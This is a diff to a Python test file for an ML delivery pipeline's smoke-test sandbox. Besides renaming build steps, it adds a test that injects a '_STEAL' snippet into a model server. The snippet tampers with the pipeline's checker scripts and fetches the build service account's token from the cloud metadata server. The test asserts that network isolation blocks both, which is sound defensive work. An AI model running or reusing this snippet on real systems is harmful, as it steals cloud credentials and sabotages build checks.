@@ -38,12 +38,12 @@ def test_a_good_model_passes_its_smoke_test_in_the_build(pipeline: Pipeline) -> 
     assert smoke["requests"] == 40 and smoke["agreement"] >= 0.9 and smoke["min_agreement"] == 0.9
     assert 0 < smoke["latency_p50_ms"] <= smoke["latency_max_ms"] <= smoke["latency_budget_ms"] == 2000
     steps = _build(pipeline, run)["steps"]
-    assert [s.get("id", "") for s in steps] == ["", delivery.SMOKE_STEP, delivery.VERDICT_STEP]
-    build_s, smoke_s, verdict_s = (_seconds(s["timing"]) for s in steps)
+    assert [s.get("id", "") for s in steps] == ["", delivery.RUN_STEP, delivery.SMOKE_STEP, delivery.VERDICT_STEP]
+    build_s, run_s, report_s, verdict_s = (_seconds(s["timing"]) for s in steps)
     print(
-        f"\nbuild step {build_s:.1f} s, smoke step {smoke_s:.1f} s, verdict step {verdict_s:.1f} s, "
-        f"server startup {smoke['startup_ms']:.0f} ms, p50 {smoke['latency_p50_ms']} ms, "
-        f"max {smoke['latency_max_ms']} ms"
+        f"\nbuild step {build_s:.1f} s, smoke run step {run_s:.1f} s, report step {report_s:.1f} s, "
+        f"verdict step {verdict_s:.1f} s, server startup {smoke['startup_ms']:.0f} ms, "
+        f"p50 {smoke['latency_p50_ms']} ms, max {smoke['latency_max_ms']} ms"
     )
 
 
@@ -81,3 +81,53 @@ def test_a_model_failing_its_golden_set_is_never_pushed_and_leaves_the_champion(
     assert _alias_digest(pipeline, "digits", "champion") == alias
     after = pipeline.ledger.champion("digits")
     assert after is not None and after["run_id"] == champion["run_id"]
+
+
+_STEAL = """
+def _steal() -> str:
+    \"\"\"What a model's code can take during its smoke test: the build account's token, and the checker's script.\"\"\"
+    import urllib.request
+
+    for script in ("/workspace/cd4ml_smoke.py", "/workspace/cd4ml-smoke/cd4ml_smoke.py", "/cd4ml-smoke/cd4ml_smoke.py"):
+        try:  # a later step running it (report, verdict) would fail the build
+            with open(script, "r+") as file:
+                code = file.read()
+                file.seek(0)
+                file.write("raise SystemExit('tampered by the model')\\n" + code)
+        except OSError:
+            pass
+    for host in ("169.254.169.254", "metadata.google.internal"):
+        url = f"http://{host}/computeMetadata/v1/instance/service-accounts/default/token"
+        try:
+            answer = urllib.request.urlopen(urllib.request.Request(url, headers={"Metadata-Flavor": "Google"}), timeout=2)
+            return "stolen:" + json.loads(answer.read())["access_token"][:48]
+        except Exception:
+            continue
+    return ""
+
+
+STOLEN = _steal()
+"""
+
+
+def test_a_models_code_gets_no_token_during_its_smoke_test(pipeline: Pipeline, tmp_path: Path) -> None:
+    """A model whose server, as it starts in the smoke test, asks the metadata server for the build account's token
+    (with which it could push to its repository or move its alias on Cloud Build) and tampers with the checker it
+    can see. It reports what it took in /health: a token there fails the sha256 check. Run with --network=none and
+    only cd4ml-smoke/ mounted, it takes nothing, and the later steps run cd4ml's own checker untouched."""
+    variant = pipeline.variant(tmp_path, "digits", {})
+    serve = variant / "serving" / "serve.py"
+    text = serve.read_text()
+    text = text.replace("MODEL_PATH = os.environ.get", _STEAL + "\n\nMODEL_PATH = os.environ.get", 1)
+    text = text.replace('"model_sha256": Handler.model_sha256}', '"model_sha256": STOLEN or Handler.model_sha256}')
+    assert "STOLEN or Handler" in text
+    serve.write_text(text)
+    models.push(pipeline.storage, variant, pipeline.settings.artifact_bucket)
+    try:
+        run = pipeline.wait(pipeline.request("digits", run_id=pipeline.next_run_id("digits")), timeout=300)
+    finally:
+        models.push(pipeline.storage, EXAMPLE, pipeline.settings.artifact_bucket)
+    smoke = run.get("smoke") or {}
+    assert not str(smoke.get("health_sha256", "")).startswith("stolen:"), "the smoke test's server got a token"
+    assert run["status"] == "succeeded", run.get("error")
+    assert smoke["passed"] is True and smoke["health_sha256"] == run["model_artifact"]["sha256"]
